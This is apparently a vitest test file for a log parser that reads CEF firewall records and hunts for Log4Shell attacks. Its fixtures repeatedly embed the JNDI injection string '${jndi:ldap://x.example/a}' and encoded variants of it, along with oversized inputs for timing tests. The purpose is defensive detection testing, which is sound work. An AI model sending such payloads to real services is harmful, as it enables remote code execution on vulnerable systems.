import { expect, test } from 'vitest'
import { huntedAround, huntIn } from '../../../test/kit/hunting.ts'
import { instant } from '../../core/index.ts'
import { FormatChooser } from './format-chooser.ts'

const prefix = 'CEF:0|Acme|WAF|1|100|Injection|8|'

function chosen(record: string) {
  return new FormatChooser().read(record, { around: huntedAround, columns: null })
}

const attack = '${jndi:ldap://x.example/a}'

test.each([
  ['an agent behind it', `${prefix}src=203.0.113.9 requestClientApplication=${attack} src=192.0.2.1`, '203.0.113.9'],
  [
    'an escaped agent before it',
    `${prefix}requestClientApplication=${attack} src\\=192.0.2.1 src=203.0.113.9`,
    '203.0.113.9',
  ],
  [
    'an agent before it, not escaped',
    `${prefix}requestClientApplication=${attack} src=192.0.2.1 src=203.0.113.9`,
    null,
  ],
  ['one that is written nowhere else, where nothing is escaped', `${prefix}request=/a?b=${attack} src=192.0.2.1`, null],
  ['a request with bars', `${prefix}src=203.0.113.9 request=/|9|src=192.0.2.1 ${attack}`, '203.0.113.9'],
  [
    'a name with escaped bars',
    `CEF:0|Acme|WAF|1|100|x\\|5\\|src\\=192.0.2.1|8|src=203.0.113.9 msg=${attack}`,
    '203.0.113.9',
  ],
  ['a record in a message', `${prefix}src=203.0.113.9 msg=${attack} CEF:0|a|b|c|d|e|5|src=192.0.2.1`, '203.0.113.9'],
  ['a record in a message before it', `${prefix}msg=CEF:0|a|b|c|d|e|5|src=192.0.2.1 ${attack} src=203.0.113.9`, null],
  [
    'a line break',
    `${prefix}src=203.0.113.9 msg=${attack}\\n${prefix.replace(/\|/g, '\\|')}src\\=192.0.2.1`,
    '203.0.113.9',
  ],
  ['another spelling', `${prefix}requestClientApplication=${attack} sourceAddress=192.0.2.1 src=203.0.113.9`, null],
])('a source is not told from %s', (_where, record, from) => {
  const { format, record: read } = chosen(record)

  expect(format).toBe('cef')
  expect(read.from).toBe(from)
  expect(huntIn(record).findings).toMatchObject([{ from, lookup: { raw: attack } }])
})

test.each([
  ['sure before it', `rt=1639283140000 request=${attack} rt=1577836800000`, '2021-12-12T04:25:40Z'],
  ['of the header, where it is a year away', `request=${attack} rt=1577836800000`, '2021-12-12T04:25:41Z'],
  ['its own, where the header has no year', `request=${attack} rt=1607747140000`, '2020-12-12T04:25:40Z'],
  ['of the header, where there are two', `request=${attack} rt=1639283140000 rt=1639290000000`, '2021-12-12T04:25:41Z'],
  ['its own, in a zone that the header does not name', `request=${attack} rt=1639286740000`, '2021-12-12T05:25:40Z'],
])('the time is the one %s', (_which, extension, when) => {
  const { record } = chosen(`Dec 12 04:25:41 waf1 ${prefix}${extension}`)

  expect(record.when).toBe(instant(when))
})

test('a header with a zone counts over a time that a client may have written', () => {
  const { record } = chosen(`<14>1 2021-12-12T04:25:41Z waf1 ${prefix}request=${attack} rt=1639290000000`)

  expect(record.when).toBe(instant('2021-12-12T04:25:41Z'))
})

test('what an agent adds makes no witness', () => {
  const added = `${prefix}requestClientApplication=x dst=203.0.113.66 dpt=1389 src=10.0.0.5 src=203.0.113.9`

  expect(chosen(added).record.saw).toBeUndefined()
})

test.each([
  ['a header of RFC 5424 with structured data', '<14>1 2021-12-12T04:25:41Z waf1 asm 4711 - [a@1 b="c"] '],
  ['the name of a program', 'Dec 12 04:25:41 waf1 asm[4711]: '],
  ['containerd', '2021-12-12T04:25:41.5Z stdout F '],
])('a record is read behind %s', (_what, before) => {
  const { format, record } = chosen(`${before}${prefix}src=203.0.113.9 request=/a msg=${attack}`)

  expect(format.split(' > ').at(-1)).toBe('cef')
  expect([record.from, record.request]).toEqual(['203.0.113.9', '/a'])
  expect(record.when === null ? null : Math.floor(record.when / 1000)).toBe(Date.UTC(2021, 11, 12, 4, 25, 41) / 1000)
})

test('a record in a member of JSON is read as what it is', () => {
  const { format, record } = chosen(JSON.stringify({ message: `${prefix}src=203.0.113.9 request=/a\\=b` }))

  expect(format).toBe('json-lines > cef')
  expect([record.from, record.request]).toEqual(['203.0.113.9', '/a=b'])
})

test('each attack is told in its field, as it is written', () => {
  const paths = ['a\\=\\=', 'b\\=', 'c']
  const [first, second, third] = paths.map((path) => `\${jndi:ldap://x.example/${path}}`)

  const { findings } = huntIn(
    `${prefix}src=203.0.113.9 request=/${first} requestClientApplication=${second} cs1=Host: x\\r\\nX: ${third}\\r\\n cs1Label=full_request`,
  )

  expect(findings.map(({ field, lookup }) => [field, lookup.raw, lookup.path])).toEqual([
    ['request', first, 'a=='],
    ['requestClientApplication', second, 'b='],
    ['full_request', third, 'c'],
  ])
})

test.each([
  ['the signature', `CEF:0|Acme|WAF|1|${attack}|b|5|src=203.0.113.9`, 'signature'],
  ['an extension without names', `${prefix}${attack}`, 'extension'],
  ['percent-encoding', `${prefix}src=203.0.113.9 request=/%24%7Bjndi:ldap://x.example/a%7D`, 'request'],
  ['escaped backslashes', `${prefix}src=203.0.113.9 request=/\\\\u0024{jndi:ldap://x.example/a}`, 'request'],
  [
    'backslashes that were not escaped',
    `${prefix}src=203.0.113.9 request=/\\u0024{jndi:ldap://x.example/a}`,
    'request',
  ],
  ['what looks like a name in it', `${prefix}src=203.0.113.9 request=/\${jndi:ldap://x.example/a b=c}`, null],
])('an attack is found in %s', (_where, record, field) => {
  const { findings } = huntIn(record)

  expect(findings).toMatchObject([{ field, verdict: 'fires', lookup: { host: 'x.example' } }])
})

test('an address of IPv6 in a field of its own is the source where its label says so', () => {
  const record = (label: string) =>
    `${prefix}c6a2=2001:db8::9 c6a2Label=${label} c6a3=2001:db8::4 c6a3Label=Destination IPv6 Address dpt=80`

  expect(chosen(record('Source IPv6 Address')).record).toMatchObject({
    from: '2001:db8::9',
    saw: { to: '2001:db8::4' },
  })
  expect(chosen(record('geo')).record.from).toBeNull()
})

test('hostile records cost linear time', () => {
  for (const text of [
    `${prefix}${'a='.repeat(500_000)}`,
    `${prefix}${'\\'.repeat(1_000_000)}=`,
    `${prefix}${' a'.repeat(500_000)}`,
    `CEF:0|${'\\|'.repeat(500_000)}`,
    `${prefix}${' a=\\\\'.repeat(200_000)}`,
  ]) {
    const before = performance.now()
    chosen(text)
    expect(performance.now() - before).toBeLessThan(2_000)
  }
})
